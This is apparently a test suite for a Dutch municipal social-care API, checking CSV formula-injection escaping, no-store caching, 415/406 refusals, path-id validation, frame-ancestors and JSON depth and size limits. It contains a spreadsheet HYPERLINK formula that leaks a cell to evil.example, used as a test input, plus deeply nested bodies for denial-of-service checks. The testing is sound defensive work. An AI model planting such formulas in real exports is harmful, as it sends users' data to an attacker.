import { Principal } from '@casusregie/auth';
import { ProjectionTriggerLifecycle } from '@casusregie/runtime';
import { ApiHarness, consultant, startApi } from '../support/api-harness';
import { HouseholdClient } from '../support/household-client';

/**
 * Issue 14, findings 6 and 8, over HTTP on PostgreSQL: formula injection in the compliance CSV, and the headers and
 * refusals of the NL API Design Rules and OWASP (no-store, 415, 406, the name of a malformed path id,
 * frame-ancestors, a depth limit on JSON bodies).
 */
const supervisor: Principal = { sub: 'zvn-teamleider', roles: ['supervisor'], municipality: 'GM0299' };
const provider: Principal = { sub: 'ggnet-portaal', roles: ['provider'], org: '12345678', municipality: 'GM0299' };
const PROBLEM_JSON = /^application\/problem\+json/;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")';
const UNKNOWN_ID = '0b7d1d2e-3f4a-4b5c-8d6e-7f8091a2b3c4';

describe('security headers, content negotiation and CSV over HTTP on postgres', () => {
  let api: ApiHarness;
  let householdId: string;
  let trajectoryId: string;
  const as = (principal: Principal) => ({
    get: (path: string) => api.http().get(`/api/v1${path}`).set('Authorization', api.bearer(principal)),
    post: (path: string) => api.http().post(`/api/v1${path}`).set('Authorization', api.bearer(principal)),
  });
  const search = () => as(consultant).post('/households/_search');

  beforeAll(async () => {
    api = await startApi('postgres', '2026-12-31');
    const client = new HouseholdClient(api, consultant);
    const household = await client.register({
      municipality: 'GM0299',
      team: 'T1',
      registeredOn: '2026-04-01',
      residences: [{ key: 'A', postcode: '6901AB', houseNumber: '417b' }],
      members: [{ givenName: 'Yusuf', familyName: 'Haddad', birthDate: '1996-05-02', role: 'parent', residenceKeys: ['A'] }],
    });
    householdId = household.id;
    trajectoryId = await client.openTrajectory(householdId, {
      memberId: household.memberIds.Yusuf,
      date: '2026-04-15',
      source: 'huisarts',
      channel: 'phone',
      question: 'Slaapproblemen',
      lifeDomains: ['geestelijke-gezondheid'],
      legalBasis: 'wmo-2015',
    });
    await client.post(`/households/${householdId}/trajectories/${trajectoryId}/exploratory-conversations`, { status: 'requested', date: '2026-04-24' });
    // An organisation without AGB code is grouped by its name: the name a consultant typed is a cell of the CSV.
    await client.refer(householdId, trajectoryId, { date: '2026-05-15', organisation: { name: FORMULA }, category: 'lichtere-zorg', warmHandover: true });
    await api.app.get(ProjectionTriggerLifecycle).settle();
  });
  afterAll(async () => {
    await api.close();
    expect(api.serverErrors).toEqual([]);
  });

  describe('finding 6: formula injection in the compliance CSV', () => {
    const compliance = '/norms/verkennend-gesprek-4w/compliance?asOf=2026-12-31&groupBy=provider';

    it('writes a text cell that starts a formula with a leading single quote, and its numbers as numbers', async () => {
      const response = await as(supervisor).get(compliance).set('Accept', 'text/csv').expect(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      const [header, row, ...rest] = response.text.trim().split('\n');
      expect(header).toBe('group,onTime,late,pending,excluded,percentage,target,provisional,medianDays,p90Days,knownAt,restated');
      expect(rest).toEqual([]);
      expect(row).toBe(`"'${FORMULA.replaceAll('"', '""')}",1,0,0,0,100,,false,21,21,,`);
      // No cell of any line starts a formula.
      for (const line of response.text.trim().split('\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    });

    it('leaves the JSON report as it was: the name is data, not a cell', async () => {
      const { body } = await as(supervisor).get(compliance).expect(200);
      expect(body.groups).toEqual([expect.objectContaining({ group: FORMULA, onTime: 1, medianDays: 21 })]);
    });
  });

  describe('finding 8: Cache-Control', () => {
    it('answers no-store on every API response with personal data, and on errors', async () => {
      for (const response of [
        await as(consultant).get(`/households/${householdId}`).expect(200),
        await as(consultant).get(`/households/${householdId}/events`).expect(200),
        await search().send({ familyName: 'Haddad' }).expect(200),
        await as(provider).get('/provider/referrals').expect(200),
        await as(consultant).get(`/households/${UNKNOWN_ID}`).expect(404),
        await api.http().get(`/api/v1/households/${householdId}`).expect(401),
        await as(supervisor).get('/norms/verkennend-gesprek-4w/compliance?asOf=2026-12-31').set('Accept', 'text/csv').expect(200),
      ]) {
        expect(response.headers['cache-control']).toBe('no-store');
      }
    });

    it('keeps the Cache-Control a route sets itself (health)', async () => {
      const response = await api.http().get('/api/v1/health/live').expect(200);
      expect(response.headers['cache-control']).toBe('no-cache, no-store, must-revalidate');
    });
  });

  describe('finding 8: 415 for a request body that is not JSON', () => {
    it.each([
      ['text/plain', 'familyName=Haddad'],
      ['application/x-www-form-urlencoded', 'familyName=Haddad'],
      ['application/xml', '<search><familyName>Haddad</familyName></search>'],
      ['text/xml', '<search/>'],
    ])('refuses %s with 415 problem+json', async (contentType, body) => {
      const response = await search().set('Content-Type', contentType).send(body).expect(415);
      expect(response.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(response.body).toMatchObject({ status: 415, code: 'unsupported-media-type' });
      expect(JSON.stringify(response.body)).not.toContain('Haddad');
    });

    it('refuses a command in another media type with 415 and records nothing', async () => {
      const before = await api.eventCount();
      await as(consultant)
        .post(`/households/${householdId}/trajectories/${trajectoryId}/intake`)
        .set('Content-Type', 'text/plain')
        .send('{"date":"2026-04-20"}')
        .expect(415);
      expect(await api.eventCount()).toBe(before);
    });

    it('still takes JSON, with or without a charset, and a POST without a body', async () => {
      await search().send({ familyName: 'Haddad' }).expect(200);
      await search().set('Content-Type', 'application/json; charset=utf-8').send('{"familyName":"Haddad"}').expect(200);
      const response = await search();
      expect(response.status).toBe(400);
      expect(response.body.code).toBe('invalid');
    });
  });

  describe('finding 8: 406 for an Accept the route cannot produce', () => {
    it.each(['application/xml', 'text/html', 'text/csv', 'application/json;q=0'])('answers Accept: %s with 406 problem+json', async (accept) => {
      const response = await as(consultant).get(`/households/${householdId}`).set('Accept', accept).expect(406);
      expect(response.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(response.body).toMatchObject({ status: 406, code: 'not-acceptable' });
    });

    it.each(['*/*', 'application/json', 'application/*', 'application/problem+json', 'application/xml, application/json;q=0.5'])(
      'answers Accept: %s with JSON',
      async (accept) => {
        const response = await as(consultant).get(`/households/${householdId}`).set('Accept', accept).expect(200);
        expect(response.headers['content-type']).toMatch(/^application\/json/);
        expect(response.body.id).toBe(householdId);
      },
    );

    it('answers no Accept header with JSON', async () => {
      const response = await as(consultant).get(`/households/${householdId}`).unset('Accept').expect(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
    });

    it('gives the compliance report as CSV or JSON, and nothing else', async () => {
      const compliance = '/norms/verkennend-gesprek-4w/compliance?asOf=2026-12-31';
      expect((await as(supervisor).get(compliance).set('Accept', 'text/csv').expect(200)).headers['content-type']).toMatch(/^text\/csv/);
      expect((await as(supervisor).get(compliance).set('Accept', '*/*').expect(200)).headers['content-type']).toMatch(/^application\/json/);
      expect((await as(supervisor).get(compliance).expect(200)).headers['content-type']).toMatch(/^application\/json/);
      await as(supervisor).get(compliance).set('Accept', 'application/xml').expect(406);
    });

    it('decides authentication first: no token with an unacceptable Accept is still 401', async () => {
      await api.http().get(`/api/v1/households/${householdId}`).set('Accept', 'application/xml').expect(401);
    });
  });

  describe('finding 8: a malformed path id is a 400 naming the parameter', () => {
    // Valid bodies, so that the path id is the only thing wrong.
    const cases: [string, 'GET' | 'POST', () => string, string[]][] = [
      ['GET a household', 'GET', () => '/households/not-a-uuid', ['householdId']],
      ['GET a trajectory', 'GET', () => `/households/${householdId}/trajectories/not-a-uuid`, ['trajectoryId']],
      ['POST a step', 'POST', () => `/households/not-a-uuid/trajectories/${trajectoryId}/intake`, ['householdId']],
      ['POST a step, both ids malformed', 'POST', () => '/households/123/trajectories/456/intake', ['householdId', 'trajectoryId']],
      ['POST a correction', 'POST', () => `/households/${householdId}/events/not-a-uuid/corrections`, ['eventId']],
    ];
    it.each(cases)('%s', async (_name, method, path, names) => {
      const body = path().endsWith('/corrections') ? { kind: 'withdrawal', reason: 'dubbel' } : { date: '2026-04-20' };
      const call = method === 'GET' ? as(consultant).get(path()) : as(consultant).post(path()).send(body);
      const response = await call.expect(400);
      expect(response.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(response.body).toMatchObject({ status: 400, code: 'invalid' });
      expect(response.body.invalidParams.map((p: { name: string }) => p.name).sort()).toEqual([...names].sort());
      expect(response.body.invalidParams.every((p: { code: string }) => p.code === 'isUuid')).toBe(true);
      expect(JSON.stringify(response.body)).not.toMatch(/not-a-uuid|123|456/);
    });

    it('names it for a provider too', async () => {
      const response = await as(provider).get('/provider/referrals/not-a-uuid').expect(400);
      expect(response.body.invalidParams).toEqual([expect.objectContaining({ name: 'referralId', code: 'isUuid' })]);
    });
  });

  describe('finding 8: frame-ancestors', () => {
    it("forbids framing every answer: data, errors, health and the OpenAPI document", async () => {
      for (const response of [
        await as(consultant).get(`/households/${householdId}`),
        await as(consultant).get('/nothing-here'),
        await api.http().get('/api/v1/households'),
        await api.http().get('/api/v1/health'),
        await api.http().get('/api/v1/openapi.json'),
      ]) {
        expect(response.headers['content-security-policy']).toMatch(/(^|;)\s*frame-ancestors 'none'\s*(;|$)/);
      }
    });
  });

  describe('finding 8: depth and size of a JSON body, before validation', () => {
    const nested = (depth: number) => '{"a":'.repeat(depth - 1) + '{}' + '}'.repeat(depth - 1);
    const nestedArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

    it.each([
      ['search', () => '/households/_search'],
      ['register', () => '/households'],
      ['a step', () => `/households/${householdId}/trajectories/${trajectoryId}/intake`],
    ])('refuses a body nested 5,000 deep on %s with 400 problem+json, not 500', async (_name, path) => {
      const before = await api.eventCount();
      for (const body of [nested(5000), `{"members":${nestedArray(5000)}}`]) {
        const response = await as(consultant).post(path()).set('Content-Type', 'application/json').set('Idempotency-Key', `deep-${_name}`).send(body);
        expect(response.status).toBe(400);
        expect(response.headers['content-type']).toMatch(PROBLEM_JSON);
        expect(response.body).toMatchObject({ status: 400, code: 'body-too-deep' });
      }
      expect(await api.eventCount()).toBe(before);
    });

    it('refuses 33 levels and passes 32 on to validation', async () => {
      const tooDeep = await search().set('Content-Type', 'application/json').send(nested(33)).expect(400);
      expect(tooDeep.body.code).toBe('body-too-deep');
      const deepEnough = await search().set('Content-Type', 'application/json').send(nested(32)).expect(400);
      expect(deepEnough.body.code).toBe('invalid');
    });

    it('refuses a body over 1 MB with 413 problem+json', async () => {
      const response = await search().send({ familyName: 'x'.repeat(1_100_000) }).expect(413);
      expect(response.headers['content-type']).toMatch(PROBLEM_JSON);
      expect(response.body.code).toBe('body-too-large');
    });
  });
});
